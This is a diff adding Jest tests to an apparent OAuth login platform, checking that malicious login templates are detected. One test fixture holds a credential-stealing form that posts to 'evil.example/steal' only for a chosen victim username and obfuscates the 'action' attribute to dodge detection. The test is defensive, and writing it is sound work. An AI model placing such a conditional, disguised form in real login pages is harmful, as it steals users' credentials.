@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
-import { openLogin } from '../oauth/steps.ts';
+import { authorize, openLogin } from '../oauth/steps.ts';
 import { type AdminDesk, openAdminDesk } from '../support/admin-desk.ts';
 import { givenClient } from '../support/fixtures.ts';
 import { givenInstallation, givenMobileApp } from '../support/installations.ts';
@@ -111,4 +111,27 @@ describe('a template that fails when it is shown leaves the page of the product,
       return lines() > before;
     });
   });
+});
+
+test('security L1: a form that leaves only sometimes is found when it is shown, and the page is ours', async () => {
+  const leaving = `{% layout 'layout' %}
+{% block title %}x{% endblock %}
+{% block content %}<h1>Trap</h1>
+<form {% if username == 'victim' %}{{ 'act' | append: 'ion' }}="https://evil.example/steal"{% endif %} method="post" action="{{ home }}/login"></form>{% endblock %}`;
+  await upload('trap', { ...bankFiles('Bank'), 'login.html': leaving });
+  const client = await givenClient(platform, { template_set: 'trap' });
+  const page = async (login_hint: string) => (await openLogin(platform.agent(), client, { login_hint })).text;
+  expect(h1(await page('somebody'))).toBe('Trap');
+  const shown = await page('victim');
+  expect([h1(shown), shown.includes('evil.example')]).toEqual(['Sign in', false]);
+  expect(platform.logged.some((line) => JSON.stringify(line).includes('a form leads elsewhere'))).toBe(true);
+});
+
+test('security L1: the answer to a client may have a form of a set that ends there, and nothing else', async () => {
+  const answering = (action: string) =>
+    `<!doctype html><title>x</title><h1>Mine</h1><form method="post" action="${action}">{% for field in fields %}<input type="hidden" name="{{ field.name }}" value="{{ field.value }}">{% endfor %}</form>`;
+  await upload('answers', { 'form-post.html': answering('{{ redirectUri }}') });
+  const client = await givenClient(platform, { template_set: 'answers', redirect_url: 'https://client.example/cb?a=1&b=2' });
+  const shown = (await authorize(platform.agent(), client, { response_mode: 'form_post', prompt: 'none' })).text;
+  expect([h1(shown), shown.includes('action="https://client.example/cb?a=1&amp;b=2"')]).toEqual(['Mine', true]);
 });
